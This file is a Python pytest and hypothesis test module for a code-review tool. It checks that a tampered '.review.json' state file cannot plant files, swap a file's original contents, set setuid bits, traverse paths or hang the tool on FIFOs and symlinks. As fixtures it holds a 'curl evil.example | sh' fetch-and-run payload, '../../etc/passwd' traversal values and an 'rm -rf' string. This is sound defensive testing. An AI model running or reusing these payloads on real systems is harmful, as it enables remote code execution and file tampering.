"""Threat: a ``*.review.json`` shipped with a session.

A state file records decisions. It is never a source of content or modes for a path the
session does not touch, a record the disk does not bear out is reported and ignored, and
a file whose shape is wrong is moved aside with one line.
"""

from __future__ import annotations

import hashlib
import json
import stat
from pathlib import Path
from typing import Any

import pytest
from hostile_statekit import accept_entry, forge_state, put_blob, write_markdown_session
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from reviewtui.core.engine import Decision, Verdict
from reviewtui.core.errors import DecisionRefused
from reviewtui.core.model.tree import FileState
from reviewtui.shell.review import Review
from reviewtui.shell.state import StateFile, op_fingerprint
from reviewtui.shell.state_records import decode_record

EVIL = b"#!/bin/sh\ncurl evil.example | sh\n"


def _session(arena_work: Path) -> Path:
    return write_markdown_session(arena_work / "s.md", [[("a.txt", "a", "b")]])


def _state(session: Path) -> Path:
    return session.with_name(session.name + ".review.json")


def test_state_cannot_create_a_path_no_operation_touches(arena: Any) -> None:
    (arena.root / "a.txt").write_text("a\n")
    session = _session(arena.work)
    state = _state(session)
    sha = put_blob(state, EVIL)
    forge_state(state, paths={"run.sh": {"base": {"sha": sha, "mode": 0o6777}, "seen": None,
                                         "ref": None, "outside": False, "deleted": False}})
    with Review.open(session, arena.root) as review:
        assert not (arena.root / "run.sh").exists()
        (problem,) = review.state_problems
        assert "run.sh" in problem
        assert "no operation of the session touches it" in problem
    assert sorted(p.name for p in arena.root.iterdir()) == ["a.txt"]


def test_state_cannot_swap_the_original_of_a_touched_file(arena: Any) -> None:
    disk = b"a\n"
    (arena.root / "a.txt").write_bytes(disk)
    session = _session(arena.work)
    state = _state(session)
    sha = put_blob(state, EVIL)
    forge_state(state, paths={"a.txt": {"base": {"sha": sha, "mode": 0o4755},
                                        "seen": hashlib.sha256(disk).hexdigest(),
                                        "ref": None, "outside": False, "deleted": False}})
    with Review.open(session, arena.root) as review:
        assert (arena.root / "a.txt").read_bytes() == disk
        (problem,) = review.state_problems
        assert "a.txt" in problem
        # (what the forged record says was last seen: the notice says whose word it is)
        assert "what the saved record says the review last wrote" in problem
        assert review.base.get("a.txt") == FileState.from_bytes(disk, mode=0o644)


def test_forged_original_under_an_accepted_edit_is_not_replayed(arena: Any) -> None:
    disk = b"a\n"
    (arena.root / "a.txt").write_bytes(disk)
    session = _session(arena.work)
    state = _state(session)
    forged = b"a\n" + EVIL
    sha = put_blob(state, forged)
    from reviewtui.shell.loader import load_session

    op = load_session(session).session.turns[0].reply.ops[0]
    forge_state(state, log=[accept_entry(1, 0, "a.txt", op_fingerprint(op))],
                paths={"a.txt": {"base": {"sha": sha, "mode": 0o644},
                                 "seen": hashlib.sha256(disk).hexdigest(), "ref": None,
                                 "outside": False, "deleted": False}})
    with Review.open(session, arena.root) as review:
        # The decision stands; the forged original does not: the edit lands on the disk.
        assert (arena.root / "a.txt").read_bytes() == b"b\n"
        assert any("ignored the saved record of a.txt" in p for p in review.state_problems)


@pytest.mark.parametrize("vouch", ["writing", "ref"])
def test_a_forged_draft_hash_brings_no_forged_original_to_disk(arena: Any, vouch: str) -> None:
    """A forged original (base) with ``writing`` (or ``ref``) naming what the draft makes
    of it: the file outside holds neither. Whatever the review then does with the record,
    the forged bytes never reach the disk: not at opening, not after the accept is
    rejected (its layer over the forged draft then met a draft without the accept)."""
    disk = b"a\n"
    (arena.root / "a.txt").write_bytes(disk)
    session = _session(arena.work)
    state = _state(session)
    sha = put_blob(state, b"a\n" + EVIL)
    drafted = put_blob(state, b"b\n" + EVIL)
    from reviewtui.shell.loader import load_session

    op = load_session(session).session.turns[0].reply.ops[0]
    record: dict[str, object] = {"base": {"sha": sha, "mode": 0o644},
                                 "seen": hashlib.sha256(b"x").hexdigest(), "ref": None,
                                 "outside": False, "deleted": False}
    if vouch == "writing":
        record["writing"] = drafted
    else:
        record["ref"] = {"sha": drafted, "mode": 0o644}
    forge_state(state, log=[accept_entry(1, 0, "a.txt", op_fingerprint(op))],
                paths={"a.txt": record})
    with Review.open(session, arena.root) as review:
        assert EVIL not in (arena.root / "a.txt").read_bytes()
        review.decide((1, 0), Decision.reject())
        assert EVIL not in (arena.root / "a.txt").read_bytes()
        review.undo()
        assert EVIL not in (arena.root / "a.txt").read_bytes()


def test_modes_from_any_source_are_permission_bits_only() -> None:
    assert FileState.from_bytes(b"x", mode=0o106777).mode == 0o777
    assert FileState.from_text("x", mode=0o4755).mode == 0o755


def test_a_saved_mode_is_masked_to_permission_bits(arena: Any) -> None:
    state = _state(arena.work / "s.md")
    sha = put_blob(state, b"a\n")
    record, why = decode_record("a.txt", {"base": {"sha": sha, "mode": 0o6777}, "seen": None},
                                StateFile(state).blobs)
    assert why == ""
    assert record is not None
    assert record.base is not None
    assert record.base.mode == 0o777


@pytest.mark.parametrize("planted", ["abc", [1, 2, 3], [1, 2, 3, -4], [True, 1, 2, 3],
                                     [1, 2, 3, 1 << 70], [1.5, 2, 3, 4], {"ino": 1}])
def test_a_planted_file_identity_is_ignored(arena: Any, planted: object) -> None:
    """``writing_stat`` only breaks a tie after a kill (a file unwritten, or written and
    checked out again): anything but four whole numbers reads as not saved."""
    state = _state(arena.work / "s.md")
    sha = put_blob(state, b"a\n")
    record, why = decode_record("a.txt", {"base": {"sha": sha, "mode": 0o644}, "seen": sha,
                                          "writing": sha, "writing_stat": planted},
                                StateFile(state).blobs)
    assert why == ""
    assert record is not None
    assert record.saved_writing_stat is None


def test_planted_move_ends_name_only_paths(arena: Any) -> None:
    """``moved_with`` (the other ends of the moves the disk holds) can only hold a file
    back: a name that is no path under the root names nothing."""
    state = _state(arena.work / "s.md")
    sha = put_blob(state, b"a\n")
    record, why = decode_record("a.txt", {"base": {"sha": sha, "mode": 0o644}, "seen": sha,
                                          "moved_with": ["../x", "/etc/passwd", "b.txt",
                                                         "c//d", "", "b.txt"]},
                                StateFile(state).blobs)
    assert why == ""
    assert record is not None
    assert record.moved_with == ("b.txt",)
    record, _why = decode_record("a.txt", {"base": {"sha": sha, "mode": 0o644}, "seen": sha,
                                           "moved_with": "b.txt"}, StateFile(state).blobs)
    assert record is not None
    assert record.moved_with == ()  # (not its letters)


BAD_STATES = {
    "negative checkpoint": {"log": [{"kind": "restore", "checkpoint": -1}]},
    "negative turn": {"log": [{"kind": "decide", "items": [
        {"turn": -3, "pos": 0, "path": "a.txt", "op": "0" * 16, "verdict": "accepted"}]}]},
    "bool as position": {"log": [{"kind": "decide", "items": [
        {"turn": 1, "pos": True, "path": "a.txt", "op": "0" * 16, "verdict": "accepted"}]}]},
    "unknown kind": {"log": [{"kind": "rm -rf"}]},
    "unknown verdict": {"log": [{"kind": "decide", "items": [
        {"turn": 1, "pos": 0, "path": "a.txt", "op": "0" * 16, "verdict": "maybe"}]}]},
    "mode of 2**68": {"paths": {"a.txt": {"base": {"sha": "0" * 64, "mode": 2**68}}}},
    "mode with type bits": {"paths": {"a.txt": {"base": {"sha": "0" * 64, "mode": 0o100644}}}},
    "sha that is not one": {"paths": {"a.txt": {"base": {"sha": "../../etc/passwd",
                                                         "mode": 0o644}}}},
    "seen that is not a sha": {"paths": {"a.txt": {"seen": 7}}},
    "writing that is not a sha": {"paths": {"a.txt": {"writing": "../a.txt"}}},
    "moved_with that is not a list": {"paths": {"a.txt": {"moved_with": "b.txt"}}},
    "moved_with holding a number": {"paths": {"a.txt": {"moved_with": ["b.txt", 7]}}},
    "infinite seconds": {"log": [{"kind": "decide", "items": [], "seconds": 1e400}]},
    "ui checkpoint below zero": {"ui": {"checkpoint": -5}},
}


def _forged_text(extra: dict[str, object]) -> str:
    doc: dict[str, object] = {"format": "reviewtui-review-state", "version": 1,
                              "session": {"sha256": ""}}
    doc.update(extra)
    return json.dumps(doc)


@pytest.mark.parametrize("text", [
    *(pytest.param(_forged_text(extra), id=name) for name, extra in BAD_STATES.items()),
    pytest.param('{"format": "reviewtui-review-state", "version": 1, "session": {}, "ui": '
                 + "[" * 100_000 + "]" * 100_000 + "}", id="nested 100000 deep"),
    pytest.param('{"format": "reviewtui-review-state", "version": 1, "session": {}, "ui": '
                 + '{"a": ' * 20 + "1" + "}" * 20 + "}", id="nested 20 deep"),
    pytest.param('{"format": "reviewtui-review-state", "version": 1, "session": {}, "log": '
                 '[{"kind": "restore", "checkpoint": ' + "9" * 5000 + "}]}",
                 id="5000-digit int"),
])
def test_a_malformed_state_is_moved_aside_with_one_line(arena: Any, text: str) -> None:
    (arena.root / "a.txt").write_text("a\n")
    session = _session(arena.work)
    state = _state(session)
    state.write_text(text)
    with Review.open(session, arena.root) as review:
        (problem,) = review.state_problems
        assert "\n" not in problem
        assert str(state) in problem
        assert "moved aside" in problem
        assert "set_int_max_str_digits" not in problem
        assert review.decisions == {}
        assert review.disk_checkpoint is None
    (aside,) = arena.work.glob("s.md.review.json.corrupt-*")
    assert aside.read_text() == text
    assert (arena.root / "a.txt").read_text() == "a\n"
    assert stat.S_IMODE((arena.root / "a.txt").stat().st_mode) & 0o7000 == 0


_JSON = st.recursive(
    st.none() | st.booleans() | st.integers(min_value=-(2**70), max_value=2**70)
    | st.floats(allow_nan=True) | st.text(max_size=8),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=6), inner,
                                                                 max_size=4),
    max_leaves=20)
_FIELDS = st.sampled_from(["log", "paths", "ui", "orphaned", "root", "session", "version"])


@settings(max_examples=150, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(field=_FIELDS, value=_JSON, item=_JSON)
def test_any_json_in_a_state_file_loads_or_is_moved_aside(
    tmp_path: Path, field: str, value: Any, item: Any
) -> None:
    """Whatever a field holds, loading never raises, and a refusal is one line."""
    doc: dict[str, Any] = {"format": "reviewtui-review-state", "version": 1,
                           "session": {"sha256": ""},
                           "log": [{"kind": "decide", "items": [item]}]}
    doc[field] = value
    state = tmp_path / "fuzz.review.json"
    state.write_text(json.dumps(doc))
    loaded, problems = StateFile(state).load()
    if loaded is None:
        (problem,) = problems
        assert "\n" not in problem
        assert "moved aside" in problem
        for aside in tmp_path.glob("fuzz.review.json.corrupt-*"):
            aside.unlink()
    else:
        assert problems == []
        for entry in loaded.log:
            for decided in entry.items:
                assert 0 <= decided.turn < 2**31
                assert 0 <= decided.pos < 2**31
        for record in loaded.paths.values():
            base = record.get("base")
            assert base is None or 0 <= base["mode"] <= 0o7777


@pytest.mark.parametrize("planted", ["fifo", "link"])
def test_a_thing_planted_at_the_finished_writes_mark_is_neither_waited_on_nor_followed(
        arena: Any, planted: str) -> None:
    """``<state>.written`` (shell/statemark.py) is read on opening and written after each
    replay: a FIFO there would hang the read, a link would write through it. Opening
    neither waits nor follows, the mark is not written through what was planted (it then
    reads "not finished", which finishes a decision's writes on reopening), and the
    link's target (outside the project) is untouched."""
    import os

    from reviewtui.shell.statemark import mark_path

    session = _session(arena.work)
    (arena.root / "a.txt").write_text("a\n")
    mark = mark_path(_state(session))
    if planted == "fifo":
        os.mkfifo(mark)
    else:
        mark.symlink_to(arena.canary)
    canary = arena.canary.read_bytes()
    with Review.open(session, arena.root) as review:  # (a FIFO would hang it here)
        review.decide((1, 0), Decision.accept())
    assert (arena.root / "a.txt").read_text() == "b\n"
    assert mark.is_symlink() if planted == "link" else stat.S_ISFIFO(os.lstat(mark).st_mode)
    assert arena.canary.read_bytes() == canary
    with Review.open(session, arena.root) as review:  # opened again: as it was left
        assert review.decisions[(1, 0)].verdict.value == "accepted"
    assert (arena.root / "a.txt").read_text() == "b\n"


@pytest.mark.parametrize("planted", ["fifo", "link"])
def test_a_thing_planted_in_place_of_a_blob_is_neither_waited_on_nor_followed(
        arena: Any, planted: str, capsys: pytest.CaptureFixture[str]) -> None:
    """QA pass s28: a FIFO put where the state's blob of a file's original content lives
    hung `check` (which reads the review's bases since that pass), `export` and the
    workbench's opening forever. The blob now reads as missing: `check` answers at once."""
    import os
    import subprocess
    import sys

    from reviewtui.shell.state import blob_dir_for

    session = _session(arena.work)
    (arena.root / "a.txt").write_text("a\n")
    with Review.open(session, arena.root) as review:
        review.decide((1, 0), Decision.accept())
    assert (arena.root / "a.txt").read_text() == "b\n"
    base = blob_dir_for(_state(session)) / hashlib.sha256(b"a\n").hexdigest()
    assert base.is_file()
    base.unlink()
    if planted == "fifo":
        os.mkfifo(base)
    else:
        base.symlink_to(arena.canary)
    canary = arena.canary.read_bytes()
    done = subprocess.run([sys.executable, "-m", "reviewtui", "check", str(session),
                           "--root", str(arena.root)], capture_output=True, text=True,
                          timeout=60, check=False)
    assert done.returncode in (0, 1), done.stderr
    assert "Traceback" not in done.stderr
    assert (arena.root / "a.txt").read_text() == "b\n"
    assert arena.canary.read_bytes() == canary


@pytest.mark.parametrize("written_at", [1, 0, 2, 99])
def test_a_forged_layer_over_a_forged_original_brings_it_nowhere(arena: Any,
                                                                 written_at: int) -> None:
    """A forged original under an outside layer whose bottom is what the review's draft
    made of it at the log entry the record names as its last write (``written_at``): the
    session bears that draft out (a layer is the disk less such a draft, so the forged
    bytes cancel out), so the record is kept, and else ignored. Either way the forged
    bytes never reach the disk, whatever the reviewer then decides."""
    disk = b"b\n"
    (arena.root / "a.txt").write_bytes(disk)
    (arena.root / "c.txt").write_bytes(b"c\n")
    session = write_markdown_session(arena.work / "s.md", [[("a.txt", "a", "b")],
                                                           [("c.txt", "c", "d")]])
    state = _state(session)
    from reviewtui.shell.loader import load_session

    ops = [turn.reply.ops[0] for turn in load_session(session).session.turns]
    forged = put_blob(state, b"a\n" + EVIL)
    drafted = put_blob(state, b"b\n" + EVIL)  # the accept of turn 1 over the forged base
    seen = put_blob(state, disk)
    log = [accept_entry(1, 0, "a.txt", op_fingerprint(ops[0])),
           accept_entry(1, 0, "a.txt", op_fingerprint(ops[0]), verdict="rejected"),
           accept_entry(2, 0, "c.txt", op_fingerprint(ops[1]))]
    forge_state(state, log=log, paths={"a.txt": {
        "base": {"sha": forged, "mode": 0o644}, "seen": seen,
        "ref": {"sha": drafted, "mode": 0o644}, "outside": True, "deleted": False,
        "layer": {"ours": drafted, "theirs": seen}, "written_at": written_at}})
    with Review.open(session, arena.root) as review:
        kept = written_at == 1
        assert [entry["path"] for entry in review.orphaned] == ([] if kept else ["a.txt"])
        assert (review.base.get("a.txt") == FileState.from_bytes(disk, mode=0o644)) != kept
        assert (arena.root / "c.txt").read_bytes() == b"d\n"  # the other accept stands
        assert EVIL not in (arena.root / "a.txt").read_bytes()
        for decision in (Decision.accept(), Decision.reject(), Decision.accept()):
            try:
                review.decide((1, 0), decision)
            except DecisionRefused:  # ignored: "a" is not in the file taken as original
                assert not kept
                assert decision.verdict is Verdict.ACCEPTED
            assert EVIL not in (arena.root / "a.txt").read_bytes()
        review.undo()
        review.undo()
        assert EVIL not in (arena.root / "a.txt").read_bytes()
